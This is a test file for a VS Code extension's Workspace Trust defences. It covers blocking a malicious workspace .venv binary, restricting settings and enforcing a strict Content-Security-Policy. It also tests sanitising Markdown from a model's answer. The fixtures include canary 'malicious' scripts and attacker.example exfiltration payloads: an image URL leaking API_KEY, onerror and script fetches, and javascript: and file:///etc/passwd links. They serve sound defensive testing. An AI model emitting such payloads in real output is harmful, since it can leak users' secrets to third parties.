// Workspace Trust on the extension side (pure modules, the real file system): which server
// command may start in Restricted Mode, which settings VS Code must hold back there, the Explain
// panel's Content-Security-Policy and the Markdown it renders from a model's answer.
import { execFileSync } from 'child_process';
import * as fs from 'fs';
import * as os from 'os';
import * as path from 'path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { explainCsp, explainPageHtml, linkToOpen } from '../src/explainHtml';
import { renderMarkdown } from '../src/markdown';
import { DiscoveryEnvironment, resolveServerLaunch, serverWorkingDirectory } from '../src/serverCommand';
import { refusedForTrust, withTrust } from '../src/trust';

// ---------------------------------------------------------------- server command
let scratch: string;
let workspace: string;
let outside: string;  // a folder on PATH, outside the workspace
let canary: string;

function script(file: string, body: string): void {
  fs.mkdirSync(path.dirname(file), { recursive: true });
  fs.writeFileSync(file, `#!/bin/sh\n${body}\n`, { mode: 0o755 });
}

/** The same discovery as the extension's (serverProcess.ts), over the real file system. */
function realEnv(trusted: boolean, pathDirs: string[] = [outside]): DiscoveryEnvironment {
  const isExecutable = (file: string) => {
    try {
      fs.accessSync(file, fs.constants.X_OK);
      return fs.statSync(file).isFile();
    } catch {
      return false;
    }
  };
  return {
    workspaceFolders: [workspace], workspaceTrusted: trusted, platform: 'linux', homeDir: os.homedir(), isExecutable,
    findOnPath: (name) => pathDirs.map((d) => path.join(d, name)).find((f) => path.isAbsolute(f) && isExecutable(f)),
  };
}

function run(launch: { command: string; args: string[] }): string {
  return execFileSync(launch.command, [...launch.args, '--version'], { encoding: 'utf8', cwd: scratch });
}

beforeAll(() => {
  scratch = fs.realpathSync(fs.mkdtempSync(path.join(os.tmpdir(), 'offpilot-trust-')));
  workspace = path.join(scratch, 'downloaded-repo');
  outside = path.join(scratch, 'bin');
  canary = path.join(scratch, 'CANARY');
  // a malicious repository: its .venv "offpilot" (and python) would run the attacker's code
  for (const venv of ['.venv', 'venv']) {
    script(path.join(workspace, venv, 'bin', 'offpilot'), `echo pwned > '${canary}'; echo workspace`);
    script(path.join(workspace, venv, 'bin', 'python'), `echo pwned > '${canary}'; echo workspace`);
  }
  script(path.join(outside, 'offpilot'), 'echo outside');
});

afterAll(() => fs.rmSync(scratch, { recursive: true, force: true }));

describe('server command in Restricted Mode (a workspace with a malicious .venv/bin/offpilot)', () => {
  it.skipIf(process.platform === 'win32')('untrusted: the workspace .venv never runs; offpilot from PATH does', () => {
    const launch = resolveServerLaunch({}, realEnv(false));
    expect(launch).toMatchObject({ command: path.join(outside, 'offpilot'), args: ['serve'], source: 'path', found: true });
    expect(run(launch).trim()).toBe('outside');
    expect(fs.existsSync(canary)).toBe(false);
  });

  it.skipIf(process.platform === 'win32')('trusted: the workspace .venv is used (the control: the canary fires)', () => {
    const launch = resolveServerLaunch({}, realEnv(true));
    expect(launch).toMatchObject({ command: path.join(workspace, '.venv', 'bin', 'offpilot'), source: 'workspace-venv' });
    expect(run(launch).trim()).toBe('workspace');
    expect(fs.existsSync(canary)).toBe(true);
    fs.rmSync(canary);
  });

  it('untrusted: settings that point into the workspace are passed over, and said so', () => {
    for (const settings of [
      { command: ['${workspaceFolder}/.venv/bin/offpilot', 'serve'] },
      { command: ['.venv/bin/offpilot', 'serve'] },
      { command: [path.join(workspace, 'venv', 'bin', 'offpilot'), 'serve'] },
      { command: ['/usr/bin/python3', '${workspaceFolder}/run_server.py'] },
      { pythonPath: '${workspaceFolder}/.venv/bin/python' },
      { pythonPath: '.venv/bin/python' },
      { pythonPath: path.join(workspace, '.venv', 'bin', 'python') },
    ]) {
      const launch = resolveServerLaunch(settings, realEnv(false));
      expect(launch.command, JSON.stringify(settings)).toBe(path.join(outside, 'offpilot'));
      expect(launch.skipped?.length, JSON.stringify(settings)).toBe(1);
      expect(launch.skipped![0]).toMatch(/^offpilot\.server\.(command|pythonPath) \(.*\): it (names \$\{workspaceFolder\}|is not an absolute path|is inside the workspace folder)/);
    }
  });

  it('untrusted: a user setting outside the workspace is used as given', () => {
    expect(resolveServerLaunch({ command: ['~/tools/offpilot', 'serve'] }, realEnv(false)))
      .toEqual({ command: path.join(os.homedir(), 'tools', 'offpilot'), args: ['serve'], source: 'setting:server.command', found: true });
    expect(resolveServerLaunch({ pythonPath: '/opt/py/bin/python' }, realEnv(false)).source).toBe('setting:server.pythonPath');
  });

  it('untrusted: an activated workspace venv on PATH, or nothing at all, starts nothing', () => {
    const onlyInside = resolveServerLaunch({}, realEnv(false, [path.join(workspace, '.venv', 'bin')]));
    expect(onlyInside.found).toBe(false);
    expect(onlyInside.refused).toMatch(/not trusted.*inside it/);
    const nothing = resolveServerLaunch({}, realEnv(false, []));
    expect(nothing.refused).toMatch(/no offpilot server found outside the workspace/);
    // trusted, the bare name is still tried as before
    expect(resolveServerLaunch({}, { ...realEnv(true, []), workspaceFolders: [] })).toEqual({ command: 'offpilot', args: ['serve'], source: 'path', found: false });
  });

  it('decides "inside" by path components, and on Windows without regard to case', () => {
    const base = { ...realEnv(false), isExecutable: () => false };
    const at = (file: string, e: DiscoveryEnvironment = base) => resolveServerLaunch({ command: [file] }, e).source;
    expect(at(`${workspace}/..hidden/offpilot`)).not.toBe('setting:server.command');
    expect(at(`${workspace}-other/offpilot`)).toBe('setting:server.command');
    expect(at(`${workspace}/../bin/offpilot`)).toBe('setting:server.command');
    const win: DiscoveryEnvironment = { ...base, platform: 'win32', workspaceFolders: ['C:\\Users\\me\\repo'], homeDir: 'C:\\Users\\me' };
    expect(at('c:\\users\\ME\\Repo\\.venv\\Scripts\\offpilot.exe', win)).not.toBe('setting:server.command');
    expect(at('C:\\Tools\\offpilot.exe', win)).toBe('setting:server.command');
  });

  it('starts the server outside the workspace when untrusted', () => {
    expect(serverWorkingDirectory(realEnv(true))).toBe(workspace);
    expect(serverWorkingDirectory(realEnv(false))).toBe(os.homedir());
    // a home folder opened as the workspace: the file-system root instead
    expect(serverWorkingDirectory({ workspaceFolders: ['/home/me'], workspaceTrusted: false, homeDir: '/home/me', platform: 'linux' })).toBe('/');
  });
});

// ---------------------------------------------------------------- settings held back
describe('package.json capabilities.untrustedWorkspaces', () => {
  const manifest = JSON.parse(fs.readFileSync(path.join(__dirname, '..', 'package.json'), 'utf8'));
  const restricted: string[] = manifest.capabilities.untrustedWorkspaces.restrictedConfigurations;
  const properties: Record<string, { type: string; enum?: unknown[] }> = manifest.contributes.configuration.properties;
  /** Free-form settings known not to name a file, program or endpoint. */
  // (excludeFiles: patterns that only keep more files out of prompts)
  const NOT_A_FILE = new Set(['offpilot.disabledLanguages', 'offpilot.excludeFiles']);

  it('is limited support, and restricts every setting that chooses a file or program to load or run', () => {
    expect(manifest.capabilities.untrustedWorkspaces.supported).toBe('limited');
    for (const name of ['offpilot.model', 'offpilot.chatModel', 'offpilot.server.command', 'offpilot.server.pythonPath',
      'offpilot.pythonPath', 'offpilot.backend', 'offpilot.endpoint', 'offpilot.apiKeyEnv', 'offpilot.remoteModel']) {
      expect(restricted, name).toContain(name);
    }
  });

  it('restricts every free-form string or list setting unless it is known not to name a file', () => {
    for (const [name, p] of Object.entries(properties)) {
      if ((p.type === 'string' || p.type === 'array') && p.enum === undefined && !NOT_A_FILE.has(name)) {
        expect(restricted, `${name} takes a free-form value: restrict it in package.json if it chooses a file, ` +
          'program or endpoint, else list it in NOT_A_FILE here').toContain(name);
      }
    }
  });

  it('names only settings that exist', () => {
    for (const name of restricted) expect(properties[name], name).toBeDefined();
  });

  it('workspaceTrusted is not a setting a workspace could set', () => {
    expect(properties['offpilot.workspaceTrusted']).toBeUndefined();
    expect(withTrust({ workspaceTrusted: true, model: 'm' }, false)).toEqual({ workspaceTrusted: false, model: 'm' });
    expect(refusedForTrust({ workspaceTrusted: false })).toBe(true);
    expect(refusedForTrust({ workspaceTrusted: true })).toBe(false);
    expect(refusedForTrust({ summary: 'x' })).toBe(false);
  });
});

// ---------------------------------------------------------------- Explain panel
function directives(csp: string): Map<string, string[]> {
  return new Map(csp.split(';').map((d) => d.trim()).filter(Boolean).map((d) => {
    const [name, ...values] = d.split(/\s+/);
    return [name!, values];
  }));
}

describe('Explain panel Content-Security-Policy', () => {
  const source = 'https://*.vscode-cdn.net';
  const csp = directives(explainCsp(source, 'N0nce'));

  it('allows nothing by default, and no remote image, font, frame or connection', () => {
    expect(csp.get('default-src')).toEqual([`'none'`]);
    for (const name of ['font-src', 'frame-src', 'child-src', 'connect-src', 'media-src', 'object-src', 'worker-src']) {
      expect(csp.has(name), name).toBe(false);  // falls back to default-src 'none'
    }
    expect(csp.get('img-src')).toEqual([source, 'data:']);
    expect(csp.get('base-uri')).toEqual([`'none'`]);
    expect(csp.get('form-action')).toEqual([`'none'`]);
    for (const [name, values] of csp) {
      for (const v of values) {
        expect(v === source || !/^(https?:|\*|wss?:)/.test(v), `${name} ${v}`).toBe(true);
        expect(v, name).not.toMatch(/unsafe-(inline|eval)/);
      }
    }
  });

  it('runs only nonce\'d scripts and styles', () => {
    expect(csp.get('script-src')).toEqual([`'nonce-N0nce'`]);
    expect(csp.get('style-src')).toEqual([source, `'nonce-N0nce'`]);
    const html = explainPageHtml({ cspSource: source, nonce: 'N0nce', styleUri: 'https://x.vscode-cdn.net/e.css', scriptUri: 'https://x.vscode-cdn.net/e.js' });
    expect(html).toContain(`<meta http-equiv="Content-Security-Policy" content="${explainCsp(source, 'N0nce')}">`);
    expect(html.match(/<script\b[^>]*>/g)).toEqual([`<script nonce="N0nce" src="https://x.vscode-cdn.net/e.js">`]);
    expect(html).toMatch(/<link rel="stylesheet" nonce="N0nce" href="https:\/\/x\.vscode-cdn\.net\/e\.css">/);
  });

  it('opens only http(s) links', () => {
    expect(linkToOpen('https://example.com/a?b=1')).toBe('https://example.com/a?b=1');
    expect(linkToOpen(' http://example.com ')).toBe('http://example.com/');
    for (const bad of ['javascript:alert(1)', 'JAVASCRIPT:alert(1)', 'file:///etc/passwd', 'command:workbench.action.terminal.new',
      'vscode://settings', 'data:text/html,<b>', '//evil.example/x', 'relative/path', '', 42, undefined]) {
      expect(linkToOpen(bad), String(bad)).toBeUndefined();
    }
  });
});

describe('Markdown from a model answer', () => {
  const answer = [
    '# Explanation',
    'Here: ![x](https://attacker.example/leak?q=API_KEY) and ![](http://attacker.example/p.png "t").',
    '![ref][img]',
    '',
    '[img]: https://attacker.example/ref.png',
    '',
    '<img src="https://attacker.example/raw.png" onerror="fetch(\'https://attacker.example\')">',
    '<iframe src="https://attacker.example/frame"></iframe>',
    '<script>fetch("https://attacker.example")</script>',
    '<style>@import url(https://attacker.example/s.css);</style>',
    '',
    '[click me](javascript:alert(1)) [data](data:text/html,hi) [file](file:///etc/passwd) [cmd](command:workbench.action.terminal.new)',
    'A real [link](https://docs.python.org/3/ "docs") and <https://example.com/auto>.',
    '',
    '```html',
    '<img src="https://attacker.example/in-code.png">',
    '```',
  ].join('\n');
  const html = renderMarkdown(answer);
  const tags = [...html.matchAll(/<([a-zA-Z][\w-]*)([^>]*)>/g)].map((m) => ({ name: m[1]!.toLowerCase(), attrs: m[2]! }));

  it('loads nothing: no element that fetches, no src or href at all', () => {
    const allowed = new Set(['h1', 'p', 'a', 'pre', 'code', 'em', 'strong', 'ul', 'ol', 'li', 'blockquote', 'br', 'hr']);
    for (const tag of tags) {
      expect(allowed.has(tag.name), `<${tag.name}${tag.attrs}>`).toBe(true);
      for (const [, attr] of tag.attrs.matchAll(/\s([\w-]+)=/g)) {
        expect(['class', 'data-href', 'title', 'role', 'tabindex'], `<${tag.name}${tag.attrs}>`).toContain(attr);
      }
    }
    expect(html).not.toMatch(/<(img|iframe|script|style|link|object|embed|video|audio|source)\b/i);
    for (const tag of tags) expect(tag.attrs, tag.name).not.toMatch(/\s(src|href|srcset|style|on\w+)=/i);
    expect(tags.filter((t) => t.name === 'a').length).toBe(5);
  });

  it('shows images as placeholders that link to them, and links only with their http(s) target in data-href', () => {
    expect(html).toContain('<a class="link image" data-href="https://attacker.example/leak?q=API_KEY" ' +
      'title="image not loaded: https://attacker.example/leak?q=API_KEY" role="link" tabindex="0">[image: x]</a>');
    expect(html).toContain('data-href="http://attacker.example/p.png"');
    expect(html).toContain('data-href="https://attacker.example/ref.png"');
    expect(html).toContain('<a class="link" data-href="https://docs.python.org/3/" title="https://docs.python.org/3/" role="link" tabindex="0">link</a>');
    expect(html).toContain('data-href="https://example.com/auto"');
    const targets = [...html.matchAll(/data-href="([^"]*)"/g)].map((m) => m[1]!);
    expect(targets.length).toBe(5);
    for (const t of targets) expect(linkToOpen(t.replace(/&amp;/g, '&')), t).toBeDefined();
  });

  it('keeps the raw HTML and the rejected links as visible text', () => {
    expect(html).toContain('&lt;iframe src=&quot;https://attacker.example/frame&quot;&gt;');
    expect(html).toContain('&lt;img src=&quot;https://attacker.example/in-code.png&quot;&gt;');
    expect(html).toContain('[click me](javascript:alert(1))');
  });
});
